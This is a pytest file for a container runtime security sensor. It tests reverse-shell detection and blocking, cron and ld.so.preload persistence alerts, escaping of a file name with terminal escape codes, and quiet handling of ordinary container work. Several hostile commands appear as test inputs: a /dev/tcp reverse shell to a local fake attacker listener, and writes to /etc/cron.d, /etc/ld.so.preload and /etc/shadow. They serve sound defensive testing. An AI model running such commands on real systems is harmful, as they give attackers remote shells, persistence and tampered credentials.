"""`seawall runtime watch` where it is hard: what a block prevented, who was gone at once, odd names, ordinary work."""

import os
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import docker_cli
from seawall.core.severity import Severity
from seawall.node.docker import Docker
from watching import Watcher, watching

pytestmark = [
    pytest.mark.docker,
    pytest.mark.kernel,
    pytest.mark.timeout(240),
    pytest.mark.skipif(os.geteuid() != 0, reason="the sensor needs root"),
]
NAME = "sw-watch-one"
GRAVE = (Severity.HIGH, Severity.CRITICAL)


class Listener:
    """The attacker's machine: types a command to everyone who calls, and keeps what it hears."""

    def __init__(self) -> None:
        self.calls, self.heard = 0, b""
        self._server = socket.create_server(("0.0.0.0", 0))
        self.port = self._server.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                peer, _ = self._server.accept()
            except OSError:
                return
            self.calls += 1
            with peer:
                try:
                    peer.settimeout(5)
                    peer.sendall(b"echo shell-$((20+22))-lives\nexit\n")
                    while said := peer.recv(4096):
                        self.heard += said
                except OSError:
                    pass

    def close(self) -> None:
        """Nobody calls any more, and all that was said has been heard. May be called twice."""
        if not self._thread.is_alive():
            return
        self._server.shutdown(socket.SHUT_RDWR)
        self._server.close()
        self._thread.join(10)


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def container(bash_image: str) -> Iterator[str]:
    subprocess.run(["docker", "rm", "-f", NAME], capture_output=True, timeout=30, check=False)
    docker_cli("run", "-d", "--name", NAME, bash_image, "sleep", "600")
    yield docker_cli("inspect", "-f", "{{.Id}}", NAME)
    docker_cli("rm", "-f", NAME)


def shells(watcher: Watcher) -> list[dict[str, Any]]:
    return [alert for alert in watcher.alerts() if alert["rule"] == "reverse_shell_socket"]


@pytest.mark.parametrize("enforce", [False, True])
def test_a_blocked_shell_never_said_a_word(container: str, listener: Listener, tmp_path: Path, enforce: bool) -> None:
    gateway = docker_cli("inspect", "-f", "{{.NetworkSettings.Gateway}}", NAME)
    attack = (
        f"exec 3<>/dev/tcp/{gateway}/{listener.port}; bash -c '/bin/touch /tmp/lived; exec bash' <&3 >&3 2>&3; exit 0"
    )
    with watching(tmp_path, *(["--enforce"] if enforce else [])) as watcher:
        docker_cli("exec", NAME, "bash", "-c", attack)
        watcher.wait(lambda: shells(watcher), 40)
        time.sleep(1)
        found = shells(watcher)
        lived = subprocess.run(
            ["docker", "exec", NAME, "cat", "/tmp/lived"], capture_output=True, timeout=20, check=False
        )
    listener.close()
    assert listener.calls == 1, "the connection itself stands: only the shell on it is stopped"
    assert found[0]["container"]["id"] == container
    if enforce:
        # The outer shell puts its input on the connection, then starts the other. It may be killed for the first,
        # which has happened then, or be stopped in the kernel at the second; it is told once, with what is true.
        [alert] = found
        assert alert["action"] == "block"
        outcome = alert["evidence"]["kind"], alert["result"], alert["means"], alert["when"]
        assert outcome in (("exec", "blocked", "signal", "before"), ("dup", "killed_after_effect", "kill", "after"))
        assert listener.heard == b""
        assert lived.returncode != 0, "the shell ran"
    else:
        assert {alert["result"] for alert in found} == {"none"}
        assert b"shell-42-lives" in listener.heard
        assert lived.returncode == 0


def test_a_container_that_lives_a_moment_is_told_by_name(bash_image: str, tmp_path: Path) -> None:
    with watching(tmp_path) as watcher:
        script = "mkdir -p /etc/cron.d; echo '* * * * * root id' > /etc/cron.d/x"
        docker_cli("run", "--rm", "--name", "sw-watch-moment", bash_image, "bash", "-c", script)
        found = watcher.wait(lambda: [a for a in watcher.alerts() if a["rule"] == "cron_written"], 10)
    assert found[0]["container"]["name"] == "sw-watch-moment"
    assert found[0]["container"]["image"].startswith("seawall-test")


@pytest.mark.parametrize("output", ["json", "text"])
def test_a_path_that_is_not_utf_8_is_told_and_stops_nothing(container: str, tmp_path: Path, output: str) -> None:
    with watching(tmp_path, "--output", output) as watcher:
        docker_cli("exec", NAME, "bash", "-c", r"mkdir -p /etc/cron.d; : > /etc/cron.d/$'a\xff\e[31mb'")
        docker_cli("exec", NAME, "bash", "-c", ": > /etc/ld.so.preload")
        watcher.wait(lambda: "preload_written" in watcher.out.read_text(), 10)
        said = watcher.out.read_text()
        assert "cron_written" in said
        assert "\x1b" not in said, "a name must not colour the terminal"
        if output == "json":
            paths = [a["evidence"]["file"]["path"] for a in watcher.alerts() if a["rule"] == "cron_written"]
            assert paths == ["/etc/cron.d/a\\xff\x1b[31mb"]


def test_ordinary_work_raises_nothing_grave(dockerd: Docker, bash_image: str, data: Path, tmp_path: Path) -> None:
    """A package manager, a health check, a job that runs again and again, hands at a terminal, a server, a client."""
    names = ["sw-watch-alpine", "sw-watch-health"]
    subprocess.run(["docker", "rm", "-f", *names], capture_output=True, timeout=60, check=False)
    alpine = docker_cli("load", "-i", str(data / "images" / "alpine-311.tar.gz")).split()[-1]
    try:
        with watching(tmp_path) as watcher:
            health = ["--health-cmd", "test -e /etc/passwd", "--health-interval", "1s"]
            docker_cli("run", "-d", "--name", names[0], alpine, "sleep", "600")
            docker_cli(
                "run", "-d", "--name", names[1], *health, bash_image, "bash", "-c", "while :; do id; sleep 1; done"
            )
            docker_cli("exec", names[0], "apk", "del", "--no-network", "libc-utils")
            docker_cli("exec", names[0], "sh", "-c", "apk info -v; apk audit; crontab -l; echo a > /var/log/app.log")
            docker_cli(
                "exec",
                names[0],
                "sh",
                "-c",
                "(echo hello | nc -l -p 8099 >/dev/null &) ; sleep 1; nc 127.0.0.1 8099 </dev/null",
            )
            terminal = ["script", "-qec", f"docker exec -it {names[0]} sh -c 'ls / | cat; id'", "/dev/null"]
            subprocess.run(terminal, stdin=subprocess.DEVNULL, capture_output=True, timeout=30, check=True)
            time.sleep(4)
            ids = {docker_cli("inspect", "-f", "{{.Id}}", name) for name in names}
            assert docker_cli("inspect", "-f", "{{.State.Health.Status}}", names[1]) == "healthy"
            mine = [alert for alert in watcher.alerts() if alert["container"]["id"] in ids]
            grave = [(alert["rule"], alert["process"]["args"]) for alert in mine if alert["severity"] in GRAVE]
            assert grave == []
            docker_cli("exec", names[0], "sh", "-c", "echo x >> /etc/shadow")
            watcher.wait(lambda: [a for a in watcher.alerts() if a["rule"] == "accounts_written"], 10)
    finally:
        subprocess.run(["docker", "rm", "-f", *names], capture_output=True, timeout=60, check=False)
